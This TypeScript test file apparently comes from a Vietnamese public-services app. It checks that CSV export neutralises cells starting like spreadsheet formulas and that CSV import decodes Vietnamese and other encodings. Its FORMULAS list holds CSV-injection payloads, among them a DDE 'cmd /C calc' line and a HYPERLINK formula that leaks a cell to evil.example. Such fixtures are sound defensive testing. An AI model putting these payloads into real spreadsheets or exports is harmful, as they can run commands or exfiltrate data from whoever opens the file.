import type { PlainDossier, PlainDossierList } from '@ioc/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../src/http/csv.ts';
import { readCsv } from '../src/lib/csv-reader.ts';
import { ADMIN_PASSWORD, startTestApp, type TestApp } from './harness.ts';

/** What a spreadsheet would run as a formula, as attackers put it in a dossier owner's name. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+HYPERLINK("http://evil.example/?leak="&A1,"bấm vào đây")',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

/** "Nguyễn Văn Ân, Hà Tĩnh, Đất đai" as Excel saves it in a Vietnamese locale (Windows-1258: tones as marks). */
const WIN1258 = Buffer.from([
  ...Buffer.from('Nguy', 'latin1'),
  0xea, // ê
  0xde, // combining tilde → ễ
  ...Buffer.from('n V', 'latin1'),
  0xe3, // ă
  ...Buffer.from('n ', 'latin1'),
  0xc2, // Â
  0xec, // combining acute → Ấ
  ...Buffer.from('n', 'latin1'),
]);
const WIN1258_PLACE = Buffer.from([
  ...Buffer.from('H', 'latin1'),
  0xe0,
  ...Buffer.from(' Ti', 'latin1'),
  0xde,
  0x6e,
  0x68,
]);

describe('the CSV writer', () => {
  it('neutralises every text that starts like a formula, and leaves numbers and other text alone', () => {
    const csv = toCsv(['owner', 'amount'], [...FORMULAS.map((f) => [f, -12.5]), ['Trần Thị B', -3], ["'=quoted", 0]]);
    const lines = csv.slice(1).split('\r\n');
    expect(lines).toEqual([
      'owner,amount',
      `'=cmd|' /C calc'!A0,-12.5`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0",-12.5`,
      `"'+HYPERLINK(""http://evil.example/?leak=""&A1,""bấm vào đây"")",-12.5`,
      `'-2+3,-12.5`,
      `'\t=1+1,-12.5`,
      `"'\r=1+1",-12.5`,
      'Trần Thị B,-3',
      `''=quoted,0`,
      '',
    ]);
    for (const line of lines.slice(1, -1)) expect(line.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is read back by the CSV reader as it was stored', () => {
    const values = [...FORMULAS, "'=quoted", "''+twice", "it's", 'Hà Tĩnh'];
    const read = readCsv(
      toCsv(
        ['owner'],
        values.map((v) => [v]),
      ),
    );
    expect(read.ok && read.records.map((r) => r.cells[0])).toEqual(values);
  });
});

describe('the CSV reader', () => {
  it('decodes Windows-1258 (tones as combining marks) to composed Vietnamese', () => {
    const read = readCsv(Buffer.concat([Buffer.from('owner;place\r\n'), WIN1258, Buffer.from(';'), WIN1258_PLACE]));
    expect(read).toMatchObject({ ok: true, encoding: 'windows-1258' });
    expect(read.ok && read.records[0]?.cells).toEqual(['Nguyễn Văn Ấn', 'Hà Tĩnh']);
    expect(read.ok && read.records[0]?.cells[0]).toBe('Nguyễn Văn Ấn'.normalize('NFC'));
  });

  it('decodes Windows-1252 when nothing in it is Vietnamese', () => {
    const read = readCsv(Buffer.from([...Buffer.from('city\nS'), 0xe3, ...Buffer.from('o Tom'), 0xe9, 0x0a]));
    expect(read).toMatchObject({ ok: true, encoding: 'windows-1252' });
    expect(read.ok && read.records[0]?.cells).toEqual(['São Tomé']);
  });

  it('decodes UTF-16 with its byte-order mark, tab-separated as Excel writes "Unicode text"', () => {
    const text = 'code\towner\r\nHS-1\tNguyễn Văn Ấn\r\n';
    for (const bytes of [
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]),
      Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]),
    ]) {
      const read = readCsv(bytes);
      expect(read.ok && read.records[0]?.cells).toEqual(['HS-1', 'Nguyễn Văn Ấn']);
    }
  });

  it('refuses a file marked UTF-8 that is not, naming the row and the byte', () => {
    const bytes = Buffer.concat([Buffer.from('\uFEFFcode,owner\nA,ok\nB,Jos'), Buffer.from([0xe9, 0x0a])]);
    expect(readCsv(bytes)).toEqual({ ok: false, row: 3, message: 'the file is not valid UTF-8 (row 3, byte 0xE9)' });
  });
});

describe('CSV in and out of the API', () => {
  let t: TestApp;
  let admin: string;
  const post = (url: string, payload: string | Buffer, contentType: string) =>
    t.app.inject({ method: 'POST', url, headers: { cookie: admin, 'content-type': contentType }, payload });
  const dossier = (code: string, owner: string): PlainDossier => ({
    code,
    procedureCode: '1.001193',
    agency: 'UBND phường Thành Sen',
    channel: 'online',
    owner,
    receivedAt: '2025-03-03T08:30:00+07:00',
    dueAt: '2025-03-04T17:00:00+07:00',
    status: 2,
    paidOnline: false,
    digitised: false,
  });
  const owners = async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/v1/public-services/dossiers?limit=100',
      headers: { cookie: admin },
    });
    return Object.fromEntries((response.json() as PlainDossierList).dossiers.map((d) => [d.code, d.owner]));
  };

  beforeAll(async () => {
    t = await startTestApp({}, { now: new Date('2025-03-10T03:00:00Z') });
    admin = await t.login('admin', ADMIN_PASSWORD);
  });
  afterAll(() => t.stop());

  it('exports dossier owners that start like formulas as text, and imports the export back unchanged', async () => {
    const dossiers = FORMULAS.map((owner, i) => dossier(`CSV-${i}`, owner));
    const pushed = await post('/api/v1/public-services/dossiers', JSON.stringify({ dossiers }), 'application/json');
    expect(pushed.statusCode, pushed.body).toBe(200);
    const stored = await owners();
    const csv = (
      await t.app.inject({
        method: 'GET',
        url: '/api/v1/public-services/dossiers?format=csv',
        headers: { cookie: admin },
      })
    ).body;
    const read = readCsv(csv);
    if (!read.ok) throw new Error(read.message);
    const ownerAt = read.header.indexOf('owner');
    const written = read.records.map((r) => r.cells[ownerAt]);
    expect(written.sort()).toEqual(FORMULAS.slice().sort());
    // In the file itself every such cell starts with the quote, never with the formula.
    for (const formula of FORMULAS) {
      expect(csv).not.toMatch(new RegExp(`(^|,)"?${formula.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`, 'm'));
    }
    expect(csv).toContain(",'-2+3,");
    const again = await post('/api/v1/public-services/dossiers/import', csv, 'text/csv');
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json()).toMatchObject({ refused: [], created: 0 });
    // The import trims cells, as it always has: a leading tab or CR comes back without it.
    const trimmed = Object.fromEntries(Object.entries(stored).map(([code, owner]) => [code, owner?.trim()]));
    expect(await owners()).toEqual(trimmed);
  });

  it('stores a Windows-1258 file with its Vietnamese letters, not replacement characters', async () => {
    const file = Buffer.concat([
      Buffer.from('code;procedureCode;agency;receivedAt;status;owner\r\n'),
      Buffer.from('CSV-1258;1.001193;UBND ph'),
      Buffer.from([0xfd, 0xf5, 0xcc]), // ư ơ + grave → ườ
      Buffer.from('ng Th'),
      Buffer.from([0xe0]), // à
      Buffer.from('nh Sen;2025-03-03T08:30:00+07:00;2;'),
      WIN1258,
      Buffer.from('\r\n'),
    ]);
    const response = await post('/api/v1/public-services/dossiers/import', file, 'text/csv');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toMatchObject({ created: 1, refused: [] });
    const owner = (await owners())['CSV-1258'];
    expect(owner).toBe('Nguyễn Văn Ấn');
    expect(owner).not.toContain('\uFFFD');
  });
});
